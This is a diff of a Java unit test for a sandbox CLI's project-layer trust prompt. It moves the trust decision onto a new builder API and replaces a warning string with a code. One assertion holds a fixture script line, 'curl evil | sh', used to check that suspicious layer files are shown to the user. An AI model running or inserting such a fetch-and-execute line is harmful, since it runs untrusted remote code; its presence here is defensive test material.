@@ -5,17 +5,21 @@ import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import dev.mino.cli.Cli;
-import dev.mino.cli.commands.ProjectTrust;
 import dev.mino.cli.terminal.Io;
-import dev.mino.core.Sandbox;
+import dev.mino.core.Mino;
+import dev.mino.core.MinoEvent;
 import dev.mino.core.SandboxBuilder;
+import dev.mino.core.SandboxListener;
+import dev.mino.core.WarningCodes;
 import dev.mino.core.config.ProjectLayerTrust;
+import dev.mino.core.config.TrustQuestion;
 import dev.mino.core.config.TrustStore;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Map;
 import java.util.Optional;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -45,13 +49,31 @@ class LayerTrustPromptTest {
         Files.writeString(file, text);
     }
 
+    /**
+     * The library's decision for a project sandbox, as the CLI's run gets it: {@code answer} is
+     * the terminal's (null: nobody to ask), {@code needed} whether the run asks for the layer.
+     */
     private Optional<?> decide(boolean trustLocal, boolean needed, Boolean answer) {
-        SandboxBuilder builder = Sandbox.builder().project(project);
-        ProjectLayerTrust.Check check = ProjectLayerTrust.check(project, store);
-        return ProjectTrust.decideLayers(check, trustLocal, needed, answer == null ? null : c -> {
-            asked.add(c);
-            return answer;
-        }, store, builder, warnings::add);
+        Mino.Builder builder = Mino.builder().environment(Map.of("HOME", dir.toString()))
+            .stateDirectory(dir.resolve("state")).trustLocal(trustLocal)
+            .listener(SandboxListener.of(event -> {
+                if (event instanceof MinoEvent.Warning warning) {
+                    warnings.add(warning.code());
+                }
+            }));
+        if (answer != null) {
+            builder.trustDecider(question -> {
+                asked.add(((TrustQuestion.ProjectLayerFiles) question).check());
+                return answer;
+            });
+        }
+        try (Mino mino = builder.build()) {
+            SandboxBuilder sandbox = mino.project(project);
+            if (needed) {
+                sandbox.layers("mine");
+            }
+            return sandbox.projectLayers();
+        }
     }
 
     @Test
@@ -69,7 +91,7 @@ class LayerTrustPromptTest {
         List<String> body = LayerTrustPrompt.body(changed);
         assertEquals(List.of("    changed:  mine/install.sh (25 bytes)", "  --- mine/install.sh ---",
             "    | #!/bin/sh", "    | curl evil | sh"), body);
-        assertEquals(List.of("Project layers skipped - Use --trust-local to always trust"), warnings);
+        assertEquals(List.of(WarningCodes.PROJECT_LAYERS_DECLINED), warnings);
     }
 
     @Test
